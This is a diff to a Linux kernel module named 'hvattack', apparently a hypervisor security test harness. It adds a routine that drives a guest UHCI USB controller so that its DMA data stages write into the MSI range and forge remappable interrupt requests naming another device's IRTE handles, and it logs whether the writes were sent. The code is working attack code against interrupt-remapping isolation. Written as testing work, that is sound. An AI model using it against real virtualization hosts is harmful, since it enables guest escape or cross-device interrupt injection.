@@ -94,6 +94,14 @@
  *                                                the runner checks the records and the canary.
  *                                                The controller's ring is not the driver's
  *                                                after: run it last
+ *   uhci forge handles A-B from D: port 0x.., K of N data stages written -> sent
+ *                                                (uhci_forge=A, alone; issue 44) the UHCI's
+ *                                                control transfers, their data stages
+ *                                                written to 0xfee0xxxx: remappable
+ *                                                interrupt requests naming IRTE handles
+ *                                                A.. from the UHCI's source ID, which the
+ *                                                unit must refuse (the runner reads the
+ *                                                faults); the UHCI's driver unbound first
  *   done failures=N
  */
 #include <linux/module.h>
@@ -167,6 +175,15 @@ MODULE_PARM_DESC(dma_events, "only the xHCI's DMA writes: its event ring moved o
 static unsigned long dma_high;
 module_param(dma_high, ulong, 0444);
 MODULE_PARM_DESC(dma_high, "an address above the guest's memory for dma_events (64-byte aligned)");
+
+static int uhci_forge = -1;
+module_param(uhci_forge, int, 0444);
+MODULE_PARM_DESC(uhci_forge, "only the UHCI's forged requests: remappable interrupt requests naming IRTE handles "
+		 "uhci_forge.. (uhci_forge_n of them) written by the UHCI (its driver unbound first)");
+
+static int uhci_forge_n = 8;
+module_param(uhci_forge_n, int, 0444);
+MODULE_PARM_DESC(uhci_forge_n, "how many handles uhci_forge names (at most 16)");
 
 static int msix_pages = 65;
 module_param(msix_pages, int, 0444);
@@ -1369,6 +1386,99 @@ static void dma_events_to(u8 __iomem *bar, u64 *seg, u64 target, const char *wha
 		failures++;
 }
 
+/* UHCI 1.1 ("Universal Host Controller Interface Design Guide"): I/O
+ * registers at BAR 4, USBCMD 0x00 (RS bit 0, HCRESET bit 1, CF bit 6,
+ * MAXP bit 7), USBSTS 0x02 (HCHalted bit 5), USBINTR 0x04, FRNUM 0x06,
+ * FRBASEADD 0x08, PORTSC1 0x10 (CCS 0, CSC 1 (W1C), PE 2, PEC 3 (W1C),
+ * LSDA 8, PR 9); a frame list of 1024 pointers (T bit 0, Q bit 1); a queue
+ * head (link, element); a transfer descriptor: link (T 0, Q 1, Vf 2),
+ * control and status (Active 23, IOC 24, LS 26, C_ERR 28:27), token
+ * (MaxLen 31:21 as length - 1, D 19, EndPt 18:15, address 14:8, PID 7:0:
+ * SETUP 0x2d, IN 0x69), buffer pointer. */
+#define UHCI_TD_ACTIVE BIT(23)
+
+/* The UHCI made to write interrupt requests naming another device's IRTE
+ * handles (issue 44 item 7: the xHCI's own handle forged from another
+ * requester): for each handle a GET_DESCRIPTOR control transfer to the
+ * device on port 1 (its default address after a port reset), its 4-byte
+ * data stage written by the controller to 0xfee00000 | handle 14:0 << 5 |
+ * 1 << 4 (remappable) | handle 15 << 2, SHV clear: a DWORD write to the
+ * interrupt range, so an interrupt request from the UHCI's source ID. The
+ * IRTE's source-ID check must refuse every one naming the xHCI's entries.
+ * The controller's driver must be unbound (the runner binds it again). */
+static void attack_uhci_forge(void)
+{
+	struct pci_dev *d = pci_get_class(PCI_CLASS_SERIAL_USB_UHCI, NULL);
+	u32 *fl = (u32 *)get_zeroed_page(GFP_KERNEL | GFP_DMA32);
+	u32 *td = (u32 *)get_zeroed_page(GFP_KERNEL | GFP_DMA32);
+	int n = uhci_forge_n < 1 ? 1 : uhci_forge_n > 16 ? 16 : uhci_forge_n, done = 0;
+	unsigned long io;
+	if (!d || !fl || !td || pci_enable_device(d)) {
+		outcome("uhci forge", false, !d ? "NO UHCI" : "NO MEMORY OR DEVICE");
+		goto out;
+	}
+	pci_set_master(d);
+	io = pci_resource_start(d, 4);
+	outw(BIT(1), io + 0x00);                     /* HCRESET */
+	msleep(20);
+	outw(0, io + 0x04);                          /* no interrupts */
+	outw(BIT(9), io + 0x10);                     /* port 1: reset */
+	msleep(60);
+	outw(0, io + 0x10);
+	udelay(50);
+	outw(BIT(2) | BIT(1) | BIT(3), io + 0x10);   /* enabled, changes cleared */
+	msleep(20);
+	{
+		u16 sc = inw(io + 0x10);
+		u32 ls = (sc & BIT(8)) ? BIT(26) : 0;
+		/* The page: the queue head at 0, the setup packet at 0x20, then
+		 * the descriptors from 0x40, 16 bytes each, depth first. */
+		u32 pa = (u32)virt_to_phys(td);
+		u8 *setup = (u8 *)td + 0x20;
+		static const u8 get_desc[8] = { 0x80, 6, 0x00, 0x01, 0, 0, 4, 0 };
+		memcpy(setup, get_desc, 8);
+		for (int i = 0; i < n; i++) {
+			u32 *s0 = td + (0x40 + 32 * i) / 4, *s1 = s0 + 4;
+			unsigned int h = (unsigned int)uhci_forge + i;
+			u32 target = 0xfee00000u | (h & 0x7fff) << 5 | BIT(4) | ((h >> 15) & 1) << 2;
+			bool last = i == n - 1;
+			s0[0] = (pa + 0x40 + 32 * i + 16) | BIT(2);
+			s0[1] = UHCI_TD_ACTIVE | ls | 3u << 27;
+			s0[2] = 7u << 21 | 0x2d;             /* SETUP, 8 bytes, address 0, endpoint 0, DATA0 */
+			s0[3] = pa + 0x20;
+			s1[0] = last ? 1 : (pa + 0x40 + 32 * (i + 1)) | BIT(2);
+			s1[1] = UHCI_TD_ACTIVE | ls | 3u << 27;
+			s1[2] = 3u << 21 | BIT(19) | 0x69;   /* IN, 4 bytes, DATA1 */
+			s1[3] = target;
+		}
+		td[0] = 1;                                /* the queue head: no next, its element the first TD */
+		td[1] = pa + 0x40;
+		for (int f = 0; f < 1024; f++)
+			fl[f] = pa | BIT(1);
+		wmb();
+		outl((u32)virt_to_phys(fl), io + 0x08);
+		outw(0, io + 0x06);
+		outw(BIT(0) | BIT(6) | BIT(7), io + 0x00);   /* run */
+		msleep(200);
+		outw(0, io + 0x00);
+		msleep(20);
+		for (int i = 0; i < n; i++) {
+			u32 st = td[(0x40 + 32 * i + 16) / 4 + 1];
+			done += !(st & UHCI_TD_ACTIVE) && !(st & GENMASK(22, 17));
+		}
+		pr_info("hvattack: uhci forge handles %d-%d from %s: port 0x%x, %d of %d data stages written -> %s\n",
+			uhci_forge, uhci_forge + n - 1, pci_name(d), sc, done, n, done == n ? "sent" : "NOT SENT");
+		if (done != n)
+			failures++;
+	}
+out:
+	if (fl)
+		free_page((unsigned long)fl);
+	if (td)
+		free_page((unsigned long)td);
+	pci_dev_put(d);
+}
+
 static void attack_dma_events(void)
 {
 	struct pci_dev *x = pci_get_class(PCI_CLASS_SERIAL_USB_XHCI, NULL);
@@ -1414,7 +1524,8 @@ static int __init hvattack_init(void)
 		pr_info("hvattack: needs x2APIC mode; done failures=1\n");
 		return -ENODEV;
 	}
-	if (hammer_ms || msi_attack || msix_show || msix_attack || msix_mask >= 0 || msix_unmask >= 0 || dma_events) {
+	if (hammer_ms || msi_attack || msix_show || msix_attack || msix_mask >= 0 || msix_unmask >= 0 || dma_events ||
+	    uhci_forge >= 0) {
 		if (hammer_ms)
 			attack_ioregsel_hammer();
 		if (msi_attack)
@@ -1429,6 +1540,8 @@ static int __init hvattack_init(void)
 			attack_msix();
 		if (dma_events)
 			attack_dma_events();
+		if (uhci_forge >= 0)
+			attack_uhci_forge();
 		pr_info("hvattack: done failures=%d\n", failures);
 		return 0;
 	}
